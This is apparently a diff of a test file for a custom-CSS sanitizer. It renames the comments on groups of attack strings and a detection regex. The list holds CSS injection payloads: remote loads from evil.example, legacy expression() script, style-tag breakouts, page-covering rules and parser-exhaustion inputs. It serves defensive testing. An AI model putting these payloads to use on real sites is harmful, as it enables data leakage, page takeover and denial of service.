@@ -62,7 +62,7 @@ describe('filterCustomCss', () => {
  * contain what makes them dangerous.
  */
 const ATTACKS: readonly string[] = [
-  // Loading from elsewhere
+  // Loads from another origin.
   '.a { background: url(https://evil.example/x) }',
   '.a { background: url("//evil.example/x") }',
   ".a { background: URL('https://evil.example/x') }",
@@ -108,7 +108,7 @@ const ATTACKS: readonly string[] = [
   'input[value^="a"] { --x: url(https://evil.example/a) }',
   '@supports (background: url(https://evil.example/x)) { .a { gap: 1px } }',
   '@keyframes k { to { background: url(https://evil.example/x) } }',
-  // Bringing in
+  // Imports and other at-rules that are not allowed.
   '@import "https://evil.example/x.css";',
   '@import url(https://evil.example/x.css) screen;',
   '@IMPORT "https://evil.example/x.css";',
@@ -129,14 +129,14 @@ const ATTACKS: readonly string[] = [
   '@view-transition { navigation: auto }',
   '@starting-style { html { opacity: 0 } }',
   '@evil { a { gap: 1px } }',
-  // Programs of old browsers
+  // Scripts in style sheets of old browsers.
   '.a { width: expression(alert(1)) }',
   String.raw`.a { width: e\78pression(alert(1)) }`,
   '.a { width: exp/**/ression(alert(1)) }',
   '.a { behavior: url(evil.htc) }',
   '.a { -ms-behavior: url(evil.htc) }',
   '.a { -moz-binding: url("https://evil.example/x.xml#x") }',
-  // Covering
+  // Covers other parts of the page.
   '.a { position: fixed }',
   '.a { POSITION: FIXED !important }',
   '.a { position: sticky }',
@@ -146,7 +146,7 @@ const ATTACKS: readonly string[] = [
   '.a { position/**/: /**/fixed }',
   '@media all { @media all { .a { position: fixed } } }',
   '@keyframes k { to { position: fixed } }',
-  // Reaching out
+  // Selects elements outside the page's content.
   'html { display: none }',
   'body .a { display: none }',
   ':root { --bg: red }',
@@ -165,7 +165,7 @@ const ATTACKS: readonly string[] = [
   '.x & { display: none }',
   '*|html { display: none }',
   'BODY { display: none }',
-  // Breaking out
+  // Ends the scope or the style element early.
   '} html { display: none }',
   '.a { color: red } } html { display: none }',
   '.a { color: red',
@@ -188,7 +188,7 @@ const ATTACKS: readonly string[] = [
   '\0.a { color: red }',
   '.a { content: "\u2028</style>\u2029" }',
   '@media </style> { .a { gap: 1px } }',
-  // Breaking down
+  // Exhausts the parser.
   '('.repeat(19_000),
   'a{'.repeat(9000),
   `${':is('.repeat(4000)}a${')'.repeat(4000)}{gap:1px}`,
@@ -204,7 +204,10 @@ const ATTACKS: readonly string[] = [
   'url('.repeat(4500),
 ];
 
-/** Words of a sheet that say it got out. Strings are taken away first: what is in quotation marks is only read. */
+/**
+ * Matches what a filtered sheet must not contain. Strings are removed before the search, because their content has no
+ * effect.
+ */
 const OUT = new RegExp(
   [
     String.raw`https?:|\/\/evil|url\((?!\/media\/[\da-f-]{36}\/[\da-f-]{36}-\d+\.webp\))`,
